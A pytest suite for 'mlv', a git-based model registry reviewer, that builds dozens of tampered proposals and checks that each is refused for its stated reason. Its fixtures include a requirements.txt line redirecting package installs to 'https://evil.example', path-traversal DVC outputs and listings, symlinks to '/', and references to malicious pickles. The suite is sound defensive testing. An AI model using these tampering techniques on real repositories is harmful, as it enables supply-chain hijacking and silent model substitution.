"""Bad proposals are refused, each for its own reason and for no other.

Each is a function that makes the proposal, with plain git. Above it stand the rules that must
refuse it, and what they must say.
"""

from __future__ import annotations

import json
import re
from typing import TYPE_CHECKING, NamedTuple

import pytest

from mlv.domain import pointer as pointers
from tests.review.mould import BETTER, EVIL, LACKING, PURGED, WORSE, YANKED
from tests.review.proposals import mlv

if TYPE_CHECKING:
    from collections.abc import Callable

    from tests.review.proposals import Desk, Make

POINTER = "registry/fraud/pointer.json"
MANIFEST = "registry/fraud/manifest.json"
MODEL_DVC = "registry/fraud/model.pkl.dvc"


class Case(NamedTuple):
    """A proposal, the rules that refuse it, words of theirs, and options of the review."""

    make: Make
    rules: set[str]
    words: str
    options: tuple[str, ...]


CASES: list[Case] = []


def refused(*rules: str, words: str, options: tuple[str, ...] = ()) -> Callable[[Make], Make]:
    """Add a case."""

    def add(make: Make) -> Make:
        CASES.append(Case(make, set(rules), words, options))
        return make

    return add


# What DVC would write ------------------------------------------------------------------------

NOTE = "outs:\n- {{md5: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa, size: 5, hash: md5, path: {}}}\n"


@refused("folder", words="data/odd.dvc has DVC write registry/fraud/model.pkl, where what is live")
def an_output_over_what_is_live(desk: Desk) -> None:
    desk.write("data/odd.dvc", NOTE.format("../registry/fraud/model.pkl"))
    desk.commit()


@refused("folder", words="odd.dvc has DVC write Registry, where")
def an_output_around_all_that_is_live(desk: Desk) -> None:
    desk.write("data/odd.dvc", NOTE.format("model.pkl/../../Registry/"))
    desk.commit()


@refused("folder", words="dvc.lock has DVC write registry/fraud/model.pkl, where")
def a_lock_with_an_output_over_what_is_live(desk: Desk) -> None:
    desk.write("dvc.lock", "stages: {train: {cmd: x, outs: [{path: registry/fraud/model.pkl}]}}\n")
    desk.commit()


@refused("folder", words="src/dvc.yaml has DVC write registry/fraud, where")
def a_stage_that_writes_to_what_is_live(desk: Desk) -> None:
    stage = "{do: {cmd: x, wdir: ../registry, outs: [{fraud: {cache: false}}]}, foreach: [1]}"
    desk.write("src/dvc.yaml", f"stages: {{train: {stage}}}\n")
    desk.commit()


@refused("folder", words="data/odd.dvc is no plain file")
def a_link_that_dvc_would_follow(desk: Desk) -> None:
    desk.write("data/note.txt", NOTE.format("../registry/fraud/model.pkl"))
    (desk.author / "data" / "odd.dvc").symlink_to("note.txt")
    desk.git("add", "--force", "data")
    desk.commit()


# The gate ----------------------------------------------------------------------------------


@refused("gate", words="fraud-v4 does not meet the gate.*roc_auc is 0.7, ")
def worse_metrics(desk: Desk) -> None:
    desk.promote(WORSE)


@refused("gate", words="latency_ms is not stated")
def a_metric_left_out(desk: Desk) -> None:
    desk.promote(LACKING)


@refused("gate", words="roc_auc is 0.6, below 0.8")
def a_first_promotion_below_an_absolute_limit(desk: Desk) -> None:
    desk.promote(1, "churn")


@refused("gate", words="roc_auc is 0.7, ")
def a_worse_version_staged(desk: Desk) -> None:
    desk.take("fraud", 2)
    desk.point(pointers.stage(desk.pointer(), WORSE))
    desk.commit()


@refused("gate", "alongside", words="mlv.yaml")
def the_gate_relaxed_along_with_a_promotion(desk: Desk) -> None:
    desk.edit("mlv.yaml", "min: 0.8, max_regression: 0.01", "min: 0.1, max_regression: 0.9")
    desk.promote(WORSE)


@refused("gate", words="roc_auc is 0.7, ")
def force_recorded_by_hand(desk: Desk) -> None:
    desk.take("fraud", WORSE)
    desk.point(pointers.promote(desk.pointer(), WORSE, forced=True))
    desk.commit()


@refused("gate", words="roc_auc is 0.7, ")
def forced_by_hand_and_asked_to_be_let_through_without_the_record(desk: Desk) -> None:
    desk.promote(WORSE)


CASES[-1] = CASES[-1]._replace(options=("--force",))


@refused("gate", words="roc_auc is 0.7, ")
def a_rollback_to_what_was_never_live(desk: Desk) -> None:
    """A yank that is taken back leaves a version archived, as if it had been live."""
    with desk.on_main():
        desk.point(pointers.unyank(pointers.yank(desk.pointer(), WORSE), WORSE))
        desk.commit("Yank fraud-v4, and take it back")
    desk.restart()
    desk.take("fraud", WORSE)
    desk.point(pointers.rollback(desk.pointer(), WORSE))
    desk.commit()


@refused("gate", words="roc_auc is 0.7, ")
def a_rollback_taken_back(desk: Desk) -> None:
    with desk.on_main():
        desk.promote(WORSE)
        desk.take("fraud", 2)
        desk.point(pointers.rollback(desk.pointer()))
        desk.commit("Roll back to fraud-v2")
    desk.restart()
    desk.git("revert", "--no-edit", "HEAD")


# The folder and its tag ----------------------------------------------------------------------


@refused("manifest", words="manifest.json")
def an_edited_metric(desk: Desk) -> None:
    desk.take("fraud", BETTER)
    desk.edit(MANIFEST, "0.93", "0.99")
    desk.point(pointers.promote(desk.pointer(), BETTER))
    desk.commit()


@refused("manifest", "gate", words="manifest.json")
def an_edited_metric_that_would_meet_the_gate(desk: Desk) -> None:
    desk.take("fraud", WORSE)
    desk.edit(MANIFEST, "0.7", "0.97")
    desk.point(pointers.promote(desk.pointer(), WORSE))
    desk.commit()


@refused("manifest", words="manifest.json")
def the_manifest_of_the_live_version_edited(desk: Desk) -> None:
    desk.edit(MANIFEST, "0.91", "0.99")
    desk.commit("Correct a typo")


@refused("folder", words="model.pkl.dvc")
def an_edited_hash(desk: Desk) -> None:
    desk.take("fraud", BETTER)
    text = (desk.author / MODEL_DVC).read_text()
    desk.write(MODEL_DVC, re.sub("md5: [0-9a-f]{32}", f"md5: {'a' * 32}", text))
    desk.point(pointers.promote(desk.pointer(), BETTER))
    desk.commit()


@refused("folder", words="preprocessor.pkl.dvc")
def a_swapped_preprocessor(desk: Desk) -> None:
    desk.take("fraud", BETTER)
    desk.git("checkout", "-q", "fraud-v1", "--", "registry/fraud/preprocessor.pkl.dvc")
    desk.point(pointers.promote(desk.pointer(), BETTER))
    desk.commit()


@refused("folder", "manifest", words="registry/fraud/")
def a_pointer_without_its_folder(desk: Desk) -> None:
    desk.point(pointers.promote(desk.pointer(), BETTER))
    desk.commit()


@refused("folder", "manifest", words="registry/fraud/")
def a_folder_without_its_pointer(desk: Desk) -> None:
    desk.take("fraud", BETTER)
    desk.commit()


@refused("folder", words="requirements.txt")
def an_option_among_the_requirements(desk: Desk) -> None:
    desk.take("fraud", BETTER)
    text = (desk.author / "registry/fraud/requirements.txt").read_text()
    desk.write("registry/fraud/requirements.txt", f"--index-url https://evil.example\n{text}")
    desk.point(pointers.promote(desk.pointer(), BETTER))
    desk.commit()


@refused("tag", words="requirements.txt of fraud-v12")
def an_option_among_the_requirements_of_the_tag(desk: Desk) -> None:
    def edit() -> None:
        desk.write("registry/fraud/requirements.txt", "--index-url https://evil.example\n")

    _register_by_hand(desk, 12, edit)
    desk.promote(12)


@refused("tag", words="fraud-v99")
def a_version_that_does_not_exist(desk: Desk) -> None:
    desk.take("fraud", BETTER)
    desk.point(pointers.promote(desk.pointer(), 99))
    desk.commit()


@refused("tag", words="no version v12")
def a_version_that_is_not_published(desk: Desk) -> None:
    _register_by_hand(desk, 12, lambda: None, publish=False)
    desk.promote(12)
    desk.git("push", "-q", "origin", "fraud-v12^{}:refs/heads/elsewhere")


@refused("tag", "manifest", "folder", words="fraud-v3 names another commit on origin")
def a_tag_moved_on_the_remote(desk: Desk) -> None:
    """The reviewer's clone knows what it was, and that the folder is another's."""
    _retrain(desk, BETTER)
    desk.promote(BETTER)


@refused("tag", words="fraud-v1 is not what was live under its name")
def a_tag_moved_of_what_was_live(desk: Desk) -> None:
    """The reviewer's clone is new: only the branch knows what v1 was."""
    _retrain(desk, 1)
    desk.promote(1)
    desk.reviewer = desk.clone()


@refused("tag", words="fraud-v2 is not what was live under its name")
def a_tag_moved_of_what_it_is_held_against(desk: Desk) -> None:
    """The live version is made to look bad, so that anything would be better."""
    desk.retag("fraud-v2", lambda: desk.edit(MANIFEST, "0.91", "0.11"))
    desk.promote(BETTER)
    desk.reviewer = desk.clone()


@refused("tag", words="fraud-v3")
def a_tag_of_a_tag(desk: Desk) -> None:
    desk.git("tag", "--force", "-a", "-m", "Register fraud-v3", "fraud-v3", "fraud-v3")
    desk.git("push", "-q", "--force", "origin", "refs/tags/fraud-v3")
    desk.promote(BETTER)
    desk.reviewer = desk.clone()


@refused("tag", words="fraud-v3.*lightweight")
def a_lightweight_tag(desk: Desk) -> None:
    desk.git("tag", "--force", "fraud-v3", "fraud-v3^{}")
    desk.git("push", "-q", "--force", "origin", "refs/tags/fraud-v3")
    desk.promote(BETTER)
    desk.reviewer = desk.clone()


@refused("tag", words="fraud-v12 is really the tag 'fraud-v3', renamed")
def a_tag_of_another_version_under_a_new_name(desk: Desk) -> None:
    desk.git("update-ref", "refs/tags/fraud-v12", "refs/tags/fraud-v3")
    desk.git("push", "-q", "origin", "refs/tags/fraud-v12")
    desk.take("fraud", BETTER)
    desk.point(pointers.promote(desk.pointer(), 12))
    desk.commit()


@refused("ancestor", "folder", "manifest", words="registration fraud-v3 would be merged")
def a_version_merged(desk: Desk) -> None:
    desk.git("merge", "-q", "--no-edit", "--no-ff", "-X", "theirs", "-m", "Go live", "fraud-v3^{}")


@refused("ancestor", words="fraud-v3")
def a_version_merged_on_the_way(desk: Desk) -> None:
    desk.git("merge", "-q", "-s", "ours", "-m", "Note what trained it", "fraud-v3^{}")


# The pointer ---------------------------------------------------------------------------------


@refused("pointer", words="in production is v3, v2|in production is v2, v3")
def two_versions_in_production(desk: Desk) -> None:
    desk.take("fraud", BETTER)
    desk.edit(POINTER, '"status": {', '"status": {\n    "v3": "production",')
    desk.commit()


@refused("pointer", words="more than one|in production is")
def two_in_production_after_a_merge_that_asked_nobody(desk: Desk) -> None:
    desk.promote(8)
    with desk.on_main():
        desk.promote(BETTER)
    desk.git("merge", "-q", "--no-edit", "-X", "theirs", "main")


@refused("pointer", words="more than one version is in staging")
def two_in_staging_after_a_clean_merge(desk: Desk) -> None:
    desk.point(pointers.stage(desk.pointer(), 1))
    desk.commit("Stage fraud-v1")
    with desk.on_main():
        desk.point(pointers.stage(desk.pointer(), 8))
        desk.commit("Stage fraud-v8")
    desk.git("merge", "-q", "--no-edit", "main")


@refused("pointer", words="a key stands twice")
def two_pointers_in_one_after_a_union_merge(desk: Desk) -> None:
    with desk.on_main():
        desk.write(".gitattributes", "registry/*/pointer.json merge=union\n")
        desk.commit("Never see a conflict again")
    desk.restart()
    desk.promote(8)
    with desk.on_main():
        desk.promote(BETTER)
    desk.git("merge", "-q", "--no-edit", "-X", "theirs", "main")


@refused("stale", words="registry/fraud changed on main .* since this started")
def another_promotion_landed_meanwhile(desk: Desk) -> None:
    desk.promote(8)
    with desk.on_main():
        desk.promote(BETTER)


def _pointer_of(spoil: Callable[[bytes], bytes]) -> Make:
    def make(desk: Desk) -> None:
        desk.take("fraud", BETTER)
        good = pointers.promote(desk.pointer(), BETTER).to_bytes()
        desk.write(POINTER, spoil(good))
        desk.commit()

    return make


SPOILED: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "with_a_key_twice": (lambda b: b.replace(b"{", b'{"current": "v2",', 1), "a key stands twice"),
    "with_a_version_twice": (
        lambda b: b.replace(b'"v1": "archived"', b'"v1": "archived", "v1": "archived"'),
        "a key stands twice",
    ),
    "that_is_huge": (lambda b: b + b" " * 5_000_000, "not written as mlv writes it"),
    "nested_without_end": (lambda _: b"[" * 200_000 + b"]" * 200_000, "nested"),
    "with_no_number": (lambda b: b.replace(b'"v3"', b"NaN", 1), "NaN"),
    "that_is_not_utf_8": (lambda b: b.replace(b"fraud", b"fr\xffud"), ""),
    "that_hides_what_it_says": (
        lambda b: b.replace(b'"current": "v3"', b'"current": "\\u0076\\u0033"'),
        "not written as mlv writes it",
    ),
    "that_is_empty": (lambda _: b"", "not JSON"),
    "of_another_model": (lambda b: b.replace(b'"fraud"', b'"ranker"'), "ranker"),
}
for _name, (_spoil, _words) in SPOILED.items():
    _make = _pointer_of(_spoil)
    _make.__name__ = f"a_pointer_{_name}"
    refused("pointer", words=_words)(_make)


@refused("withdrawn", words="fraud-v6.*yanked")
def a_yanked_version(desk: Desk) -> None:
    before = desk.pointer()
    desk.take("fraud", YANKED)
    status = {**before.status, 2: "archived", YANKED: "production"}
    desk.point(before._replace(current=YANKED, previous=2, status=status))
    desk.commit()


@refused("withdrawn", "bytes", words="fraud-v7 is purged, and would go live")
def a_purged_version(desk: Desk) -> None:
    before = desk.pointer()
    desk.take("fraud", PURGED)
    status = {**before.status, 2: "archived", PURGED: "production"}
    desk.point(before._replace(current=PURGED, previous=2, status=status))
    desk.commit()


@refused("withdrawn", words="fraud-v6.*yanked")
def a_yanked_version_whose_yank_is_taken_back_on_the_way(desk: Desk) -> None:
    desk.point(pointers.unyank(desk.pointer(), YANKED))
    desk.commit("It is not that bad")
    desk.promote(YANKED)


@refused("withdrawn", words="fraud-v3.*yanked")
def a_revert_that_brings_back_a_yanked_version(desk: Desk) -> None:
    with desk.on_main():
        desk.promote(BETTER)
        desk.take("fraud", 2)
        desk.point(pointers.rollback(desk.pointer()))
        desk.commit("Roll back to fraud-v2")
        desk.point(pointers.yank(desk.pointer(), BETTER))
        desk.commit("Yank fraud-v3")
    desk.restart()
    desk.git("revert", "--no-edit", "-X", "theirs", "HEAD~1")


@refused("withdrawn", words="fraud-v7 is purged, and would be archived")
def the_status_of_an_old_version_rewritten(desk: Desk) -> None:
    before = desk.pointer()
    desk.take("fraud", BETTER)
    after = pointers.promote(before, BETTER)
    desk.point(after._replace(status={**after.status, PURGED: "archived"}))
    desk.commit()


@refused("withdrawn", words="fraud-v6 is yanked, and would be registered")
def a_yanked_version_dropped_from_the_pointer(desk: Desk) -> None:
    _forget(desk, YANKED)


@refused("history", "pointer", words="v1 would be forgotten")
def a_version_dropped_from_the_pointer(desk: Desk) -> None:
    _forget(desk, 1)


@refused("history", words="registry/fraud/pointer.json is gone")
def no_pointer_any_more(desk: Desk) -> None:
    desk.git("rm", "-q", POINTER)
    desk.commit()


@refused("pointer", words="no step of mlv .*v2 production -> archived")
def what_is_live_taken_away(desk: Desk) -> None:
    before = desk.pointer()
    desk.git("rm", "-rqf", "registry/fraud")
    status = {n: s for n, s in before.status.items() if n != 2}
    desk.point(before._replace(current=None, previous=None, status={**status, 2: "archived"}))
    desk.commit()


# What came along -----------------------------------------------------------------------------


@refused("alongside", words="train.py")
def code_smuggled_along(desk: Desk) -> None:
    desk.write("train.py", "import os\n")
    desk.promote(BETTER)


@refused("alongside", words="train.py")
def code_smuggled_along_in_a_commit_of_its_own(desk: Desk) -> None:
    desk.promote(BETTER)
    desk.write("train.py", "import os\n")
    desk.commit("Fix a typo")


@refused("alongside", words=".github/workflows/review.yml")
def a_workflow_changed_along(desk: Desk) -> None:
    desk.write(".github/workflows/review.yml", "on: push\n")
    desk.promote(BETTER)


@refused("alongside", words="CODEOWNERS")
def owners_changed_along(desk: Desk) -> None:
    desk.git("rm", "-q", "CODEOWNERS")
    desk.promote(BETTER)


@refused("alongside", words="mlv.yaml")
def another_registry_branch_named_along(desk: Desk) -> None:
    desk.edit("mlv.yaml", "branch: main", "branch: proposal")
    desk.promote(BETTER)


@refused("alongside", "gate", words="mlv.yaml")
def another_registry_branch_and_remote_named_along(desk: Desk) -> None:
    desk.write("mlv.yaml", "branch: proposal\nremote: evil\n")
    desk.promote(WORSE)


@refused("alongside", words="mlv.yaml")
def a_broken_mlv_yaml(desk: Desk) -> None:
    desk.write("mlv.yaml", "branch: [main\n")
    desk.promote(BETTER)


@refused("registry", words="registry/evil.sh")
def a_file_below_registry(desk: Desk) -> None:
    desk.write("registry/evil.sh", "true\n")
    desk.promote(BETTER)


@refused("folder", words="registry/fraud/evil.py")
def a_file_in_the_folder(desk: Desk) -> None:
    desk.write("registry/fraud/evil.py", "true\n")
    desk.take("fraud", BETTER)
    desk.write("registry/fraud/evil.py", "true\n")
    desk.point(pointers.promote(desk.pointer(), BETTER))
    desk.commit()


@refused("folder", words="registry/fraud/")
def a_pulled_model_committed(desk: Desk) -> None:
    desk.write("registry/fraud/model.pkl", b"\x80\x05}.")
    desk.commit("Commit all")


@refused("registry", words="registry/.gitignore")
def the_guard_of_the_registry_changed(desk: Desk) -> None:
    desk.write("registry/.gitignore", "*\n")
    desk.promote(BETTER)


@refused("registry", "folder", "manifest", words="no pointer of 'ranker' moves")
def the_folder_of_another_model_changed_along(desk: Desk) -> None:
    desk.take("ranker", 2)
    desk.promote(BETTER)


@refused("pointer", words="is no regular file")
def a_pointer_that_may_be_run(desk: Desk) -> None:
    desk.promote(BETTER)
    desk.git("update-index", "--chmod=+x", POINTER)
    desk.commit("Tidy up")


@refused("folder", words="registry/fraud|link")
def a_link_in_place_of_the_hash(desk: Desk) -> None:
    _link(desk, "registry/fraud/model.pkl.dvc", "../ranker/model.pkl.dvc")


@refused("manifest", words="registry/fraud/manifest.json")
def a_link_in_place_of_the_manifest(desk: Desk) -> None:
    _link(desk, MANIFEST, "../../manifest.json")


@refused("manifest", words="registry/fraud/manifest.json")
def a_folder_in_place_of_the_manifest(desk: Desk) -> None:
    desk.promote(BETTER)
    desk.git("rm", "-qf", MANIFEST)
    desk.write(f"{MANIFEST}/v3", "{}")
    desk.commit("Tidy up")


@refused("history", words="registry/fraud/pointer.json is gone")
def a_folder_in_place_of_the_pointer(desk: Desk) -> None:
    desk.promote(BETTER)
    desk.git("rm", "-qf", POINTER)
    desk.write(f"{POINTER}/v3", "{}")
    desk.commit("Tidy up")


@refused("folder", words="registry/price/evil")
def the_folder_of_a_model_that_does_not_exist(desk: Desk) -> None:
    desk.write("registry/price/evil/train.py", "")
    desk.commit("Prepare for a new model")


@refused("pointer", words="registry/fraud/pointer.json")
def a_link_in_place_of_the_pointer(desk: Desk) -> None:
    _link(desk, POINTER, "../../pointer.json")


@refused("history", "registry", words="registry/fraud is new")
def a_submodule_in_place_of_the_folder(desk: Desk) -> None:
    desk.git("rm", "-rqf", "registry/fraud")
    entry = f"160000,{desk.git('rev-parse', 'main')},registry/fraud"
    desk.git("update-index", "--add", "--cacheinfo", entry)
    desk.commit()


@refused("history", "registry", words="registry is new")
def a_link_in_place_of_the_registry(desk: Desk) -> None:
    desk.git("rm", "-rqf", "registry")
    (desk.author / "registry").symlink_to("/")
    desk.git("add", "--force", "registry")
    desk.commit()


@pytest.mark.parametrize("name", ["Fraud", "-fraud", "fraud-v3", "fra ud", "fraud.git"])
def test_a_folder_that_is_no_models(desk: Desk, name: str) -> None:
    after = pointers.promote(pointers.empty("fraud"), BETTER).to_bytes()
    desk.write(
        f"registry/{name}/pointer.json", after.replace(b'"fraud"', json.dumps(name).encode())
    )
    desk.commit()
    seen = desk.review()
    assert seen.rules == {"registry"}, seen.words
    assert name in seen.words


# Bytes ---------------------------------------------------------------------------------------


@refused("bytes", words="fraud-v3.*model.pkl")
def bytes_that_are_missing(desk: Desk) -> None:
    desk.bytes_of("fraud-v3").unlink()
    desk.promote(BETTER)


@refused("bytes", words="fraud-v3.*preprocessor.pkl")
def bytes_that_are_cut_off(desk: Desk) -> None:
    path = desk.bytes_of("fraud-v3", "preprocessor.pkl")
    path.chmod(0o644)
    path.write_bytes(path.read_bytes()[:-1])
    desk.promote(BETTER)


@refused("bytes", words="fraud-v3.*model.pkl", options=("--deep",))
def bytes_that_were_tampered_with(desk: Desk) -> None:
    path = desk.bytes_of("fraud-v3")
    path.chmod(0o644)
    path.write_bytes(path.read_bytes().replace(b"fraud", b"froid"))
    desk.promote(BETTER)


@refused("bytes", words="fraud-v8.*tokenizer")
def a_file_of_a_directory_that_is_missing(desk: Desk) -> None:
    listing = json.loads(desk.bytes_of("fraud-v8", "tokenizer").with_suffix(".dir").read_bytes())
    md5 = listing[0]["md5"]
    (desk.storage / "files" / "md5" / md5[:2] / md5[2:]).unlink()
    desk.promote(8)


@refused("bytes", words="fraud-v8.*tokenizer", options=("--deep",))
def a_file_of_a_directory_that_was_tampered_with(desk: Desk) -> None:
    listing = json.loads(desk.bytes_of("fraud-v8", "tokenizer").with_suffix(".dir").read_bytes())
    md5 = listing[0]["md5"]
    path = desk.storage / "files" / "md5" / md5[:2] / md5[2:]
    path.chmod(0o644)
    path.write_bytes(b"x\ny\n")
    desk.promote(8)


@refused("bytes", words="fraud-v8.*tokenizer", options=("--deep",))
def a_listing_that_leads_outside(desk: Desk) -> None:
    path = desk.bytes_of("fraud-v8", "tokenizer").with_suffix(".dir")
    path.chmod(0o644)
    path.write_bytes(path.read_bytes().replace(b"vocab.txt", b"../../../p"[:9]))
    desk.promote(8)


def _evil(number: int) -> Make:
    return lambda desk: desk.promote(number)


for _name, _number in EVIL.items():
    _make = _evil(_number)
    _make.__name__ = f"a_malicious_pickle_{_name.replace(' ', '_')}"
    refused("pickle", words=f"fraud-v{_number}.*system", options=("--deep",))(_make)


# Where it stands -----------------------------------------------------------------------------


def test_a_proposal_that_has_nothing_to_do_with_main(desk: Desk) -> None:
    """There is nothing to hold it against, and so no report."""
    desk.git("switch", "-q", "--orphan", "unrelated")
    desk.take("fraud", BETTER)
    desk.point(pointers.promote(pointers.empty("fraud"), BETTER))
    desk.commit()
    desk.bring(desk.reviewer, desk.publish())
    code, out, err = mlv(desk.reviewer, "review", "origin/main..HEAD")
    assert (code, out) == (1, "")
    assert "no commit in common" in err


def _register_by_hand(
    desk: Desk, number: int, edit: Callable[[], None], *, publish: bool = True
) -> None:
    """Make a registration of v3's bytes, as mlv would but for an edit."""

    def all_of_it() -> None:
        desk.edit(MANIFEST, '"version": "v3"', f'"version": "v{number}"')
        edit()

    desk.git("tag", "--force", f"fraud-v{number}", "fraud-v3^{}")
    desk.retag(f"fraud-v{number}", all_of_it, publish=publish)


def _forget(desk: Desk, number: int) -> None:
    """Promote, and leave a version out of the pointer."""
    desk.take("fraud", BETTER)
    after = pointers.promote(desk.pointer(), BETTER)
    desk.point(after._replace(status={n: s for n, s in after.status.items() if n != number}))
    desk.commit()


def _retrain(desk: Desk, number: int) -> None:
    desk.retag(f"fraud-v{number}", lambda: desk.edit(MANIFEST, "last_90_days", "last_9_days"))


def _link(desk: Desk, path: str, target: str) -> None:
    """Promote, and then have a link in a file's place."""
    desk.promote(BETTER)
    desk.git("rm", "-qf", path)
    (desk.author / path).parent.mkdir(exist_ok=True)
    (desk.author / path).symlink_to(target)
    desk.git("add", "--force", path)
    desk.commit("Tidy up")


# Last, for then all cases are known ----------------------------------------------------------


@pytest.mark.parametrize("case", CASES, ids=[case.make.__name__ for case in CASES])
def test_it_is_refused_for_its_own_reason(desk: Desk, case: Case) -> None:
    case.make(desk)
    seen = desk.review(*case.options)
    assert (seen.code, seen.rules) == (3, case.rules), seen.words
    assert re.search(case.words, seen.words), seen.words
    assert not desk.ran.exists()


def test_there_are_as_many_as_were_promised() -> None:
    assert len(CASES) >= 50
